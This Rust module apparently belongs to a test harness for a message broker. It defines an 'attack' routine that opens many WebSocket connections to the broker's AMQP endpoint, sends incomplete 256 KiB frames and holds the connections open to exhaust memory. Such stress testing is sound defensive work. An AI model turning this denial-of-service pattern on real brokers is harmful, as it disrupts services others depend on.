//! Messages of WebSocket that lack their end, with AMQP in them: more than the room for all of them.

use std::io::Write as _;

use super::super::attacker::{Attack, flood};
use super::super::broker::Broker;
use super::super::wire::{head_of, upgrade};

/// As large as a message may be.
const MESSAGE: usize = 256 << 10;

pub fn attack(broker: &Broker, weight: usize) -> Attack {
    let mut attack = Attack::default();
    for _ in 0..100 * weight.min(2) {
        if let Ok((mut stream, _)) = upgrade(broker.amqp, "/$servicebus/websocket", "amqp") {
            stream.write_all(&head_of(0x82, MESSAGE)).ok();
            flood(&mut stream, &vec![b'x'; MESSAGE - 1], 1);
            attack.hold(stream);
        }
    }
    attack
}
